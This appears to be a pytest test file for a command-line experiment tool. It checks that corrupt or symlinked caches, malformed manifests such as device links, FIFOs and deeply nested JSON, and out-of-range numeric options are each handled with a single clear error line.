@pytest.mark.parametrize("kind", ["garbage", "directory", "/dev/zero", "outside"])
def test_a_damaged_or_linked_cache_is_set_aside_inside_its_folder(tmp_path: Path, kind: str) -> None:
    cache = tmp_path / "cache"
    cache.mkdir()
    db = cache / "responses.sqlite"
    outside = tmp_path / "outside.sqlite"
    if kind == "garbage":
        db.write_bytes(b"not a database" * 100)
    elif kind == "directory":
        db.mkdir()
    elif kind == "/dev/zero":
        db.symlink_to("/dev/zero")
    else:
        outside.write_bytes(b"")
        db.symlink_to(outside)
    sweep = write_yaml(tmp_path / "s.yaml", quickstart(tmp_path))
    result = cli.invoke(app, ["run", str(sweep), "--out", str(tmp_path / "o"), "--cache", str(cache), "-q"])
    assert result.exit_code == 0, result.output
    assert "is damaged" in result.stderr and "damaged/" in result.stderr
    assert sorted(p.name for p in cache.iterdir()) == ["damaged", "responses.sqlite"] + \
        [p.name for p in cache.iterdir() if p.name.startswith("responses.sqlite-")]
    assert db.is_file() and not db.is_symlink()
    assert len(list((cache / "damaged").iterdir())) == 1
    assert not outside.exists() or outside.read_bytes() == b""  # never written through the link
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(["cache", "o", "s.yaml"] + (["outside.sqlite"]
                                                                                             if kind == "outside" else []))


@pytest.fixture(scope="module")
def finished_run(tmp_path_factory: pytest.TempPathFactory) -> Path:
    tmp = tmp_path_factory.mktemp("finished")
    data = quickstart_dict()
    data["probes"][0]["runs"] = 1
    data["models"] = data["models"][:1]
    out = tmp / "out"
    assert cli.invoke(app, ["run", str(write_yaml(tmp / "s.yaml", data)), "--out", str(out), "-q"]).exit_code == 0
    return tmp


@pytest.mark.parametrize("manifest", ["/dev/zero", "fifo", "deep"])
@pytest.mark.parametrize("command", ["run", "report"])
def test_a_manifest_that_is_no_file_or_too_deep_is_one_line(tmp_path: Path, finished_run: Path, manifest: str,
                                                            command: str) -> None:
    out = tmp_path / "out"
    shutil.copytree(finished_run / "out", out)
    path = out / "manifest.json"
    path.unlink()
    if manifest == "/dev/zero":
        path.symlink_to("/dev/zero")
    elif manifest == "fifo":
        os.mkfifo(path)  # opened, it blocks for ever: the test would hang
    else:
        path.write_text('{"a":' * 1_000_000 + "1" + "}" * 1_000_000)
    args = ["run", str(finished_run / "s.yaml"), "--out", str(out), "-q"] if command == "run" else ["report", str(out)]
    line = invoke_error_line(cli.invoke(app, args))
    assert "manifest" in line and any(why in line for why in ("device", "FIFO", "nests", "symbolic link")), line


@pytest.mark.parametrize("option", [["--workers", "0"], ["--workers", "-2"], ["--max-error-rate", "nan"],
                                    ["--max-error-rate", "1.5"], ["--max-error-rate", "-0.1"]])
def test_an_out_of_range_cli_value_is_the_one_error_line(option: list[str]) -> None:
    """Was typer's usage block ("Usage: … Try … --help …"), not the project's line."""
    line = invoke_error_line(cli.invoke(app, ["run", str(CONFIGS / "quickstart.yaml"), "-q", *option]))
    assert option[0] in line and "Usage" not in line


@pytest.mark.parametrize("args", [["--prompts", "100000000", "--runs", "100000000"],
                                  ["--prompts", ",".join(str(k) for k in range(2, 60)), "--runs", "1,2,3,4,5,6,7,8"],
                                  ["--sims", "100000000"], ["--prompts", "1e400"], ["--arm-a", "nan"],
                                  ["--sd", "inf"], ["--prompts", "1"]])
def test_plan_with_a_design_past_its_bounds_is_one_line(args: list[str]) -> None:
    """A design of 10**8 prompts allocated until it failed (a traceback after 79 s): refused before any work."""
    base = {"--arm-a": "0.1,0.2", "--arm-b": "0.05"}
    base.update(dict(zip(args[::2], args[1::2], strict=True)))
    line = invoke_error_line(cli.invoke(app, ["plan", *(x for kv in base.items() for x in kv)]))
    assert any(flag in line for flag in ("--prompts", "--sims", "--sd", "--arm-a", "designs", "draws", "rates")), line


def _numeric_options() -> list[tuple[str, str, str]]:
    """(command, option, a bad value) for every int or float option of every command (typer's own records)."""
    import typer.main

    group = typer.main.get_command(app)
    cases = []
    for name, command in sorted(group.commands.items()):  # type: ignore[attr-defined]
        for param in command.params:
            described = getattr(param, "type_descriptor", None)
            annotation = getattr(described, "annotation", None)
            if param.param_type_name != "option" or annotation not in (int, float) or param.is_flag:
                continue
            option = max(param.opts, key=len)
            cases.append((name, option, "abc"))
            low = getattr(param, "min", None)
            if low is not None:
                cases.append((name, option, str(low - 1)))
    assert len(cases) > 20, cases  # the walk found the options (serve alone has a dozen)
    return cases


@pytest.mark.parametrize(("command", "option", "value"), _numeric_options())
def test_every_numeric_cli_option_refuses_a_bad_value_in_one_line(command: str, option: str, value: str) -> None:
    """Click's ranges and types printed a usage block ("Usage: … Try … --help"); now the project's one line."""
    import typer.main

    arguments = [p for p in typer.main.get_command(app).commands[command].params  # type: ignore[attr-defined]
                 if p.param_type_name == "argument" and p.required]
    result = cli.invoke(app, [command, *(["x"] * len(arguments)), option, value])
    line = invoke_error_line(result)
    assert option in line and "Usage" not in line, line
